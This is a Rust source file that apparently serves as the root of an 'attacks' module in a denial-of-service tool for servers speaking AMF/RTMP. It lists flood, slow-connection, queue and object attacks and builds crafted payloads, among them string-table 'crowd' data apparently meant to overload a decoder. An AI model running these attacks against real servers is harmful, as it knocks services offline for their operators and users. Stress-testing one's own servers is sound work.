//! The attacks.

mod floods;
mod objects;
mod other;
mod output;
mod queues;
mod slow;
mod work;

use std::pin::Pin;

use crate::target::Target;
use crate::wire;

pub(crate) struct Attack {
    pub(crate) name: &'static str,
    pub(crate) run: fn(Target) -> Pin<Box<dyn Future<Output = ()>>>,
}

/// An attack of this name: an asynchronous function of the target.
macro_rules! attack {
    ($name:literal, $run:path) => {
        $crate::attacks::Attack { name: $name, run: |target| Box::pin($run(target)) }
    };
}
use attack;

pub(crate) fn all() -> Vec<Attack> {
    // Floods come last: what they leave open takes the places of the attackers' address for a while.
    let groups = [
        output::attacks(),
        work::attacks(),
        queues::attacks(),
        slow::attacks(),
        objects::attacks(),
        other::attacks(),
        floods::attacks(),
    ];
    groups.into_iter().flatten().collect()
}

/// The attacks that need no method of the server, so that any server can be attacked by them.
pub(crate) fn without_methods() -> Vec<Attack> {
    slow::without_methods().into_iter().chain(floods::attacks()).collect()
}

/// Strings of one length that are the same in their first and last 64 bytes and fill all places where a table of strings
/// looks for one, and one more that is mentioned so often. The first of them gets the place `first` in the decoder's
/// table.
fn crowd(first: usize, length: usize, strings: usize, mentions: usize) -> Vec<u8> {
    wire::array(strings + mentions, &crowd_items(first, length, strings, mentions))
}

fn crowd_items(first: usize, length: usize, strings: usize, mentions: usize) -> Vec<u8> {
    let mut items = Vec::new();
    for index in 0..strings {
        // What tells them apart comes as late as it can.
        let middle = format!("{index:0>width$}", width = length - 128);
        items.extend(wire::string(format!("{0}{middle}{0}", "x".repeat(64)).as_bytes()));
    }
    items.extend(wire::string_reference(first + strings - 1).repeat(mentions));
    items
}

/// A call of one value over AMF3.
fn packet_amf3(target: &str, value: &[u8]) -> Vec<u8> {
    wire::packet(3, &[(target, "/1", &wire::amf3_body(value))])
}

/// One value of AMF3 in a command of AMF0.
fn command_switched(name: &str, value: &[u8]) -> Vec<u8> {
    wire::command(name, 2.0, &[&[0x11][..], value].concat())
}

/// Numbers as arguments.
fn numbers(values: &[u32]) -> Vec<u8> {
    values.iter().flat_map(|value| wire::number(f64::from(*value))).collect()
}

/// The same in the body of a message.
fn numbers_body(values: &[u32]) -> Vec<u8> {
    [&[0x0A][..], &(values.len() as u32).to_be_bytes(), &numbers(values)].concat()
}
